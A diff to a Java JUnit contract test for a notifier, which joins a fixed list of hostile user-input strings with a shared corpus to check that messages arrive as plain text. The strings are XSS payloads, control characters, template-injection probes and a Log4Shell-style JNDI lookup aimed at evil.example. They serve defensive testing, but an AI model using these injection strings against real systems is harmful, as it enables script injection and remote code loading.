@@ -3,6 +3,8 @@ package org.earshot.notify;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.util.List;
+import java.util.stream.Stream;
+import org.earshot.Corpus;
 import org.earshot.mention.Outcome;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -97,7 +99,7 @@ public abstract class NotifierContractTest {
     }
 
     static List<String> whatPeopleWroteArrivesAsTextOnly() {
-        return List.of(
+        List<String> lines = List.of(
                 "<script>alert(1)</script><img src=x onerror=alert(1)>",
                 "\"><svg/onload=alert(1)><a href='javascript:alert(1)'>x</a>",
                 "javascript:alert(1)",
@@ -112,6 +114,7 @@ public abstract class NotifierContractTest {
                 "null \u0000 bell \u0007 delete \u007F",
                 "=?utf-8?q?=3Cscript=3E?=",
                 "${jndi:ldap://evil.example} #{7*7} {{7*7}}");
+        return Stream.concat(lines.stream(), Corpus.all().stream()).toList();
     }
 
     private static Alert plain() {
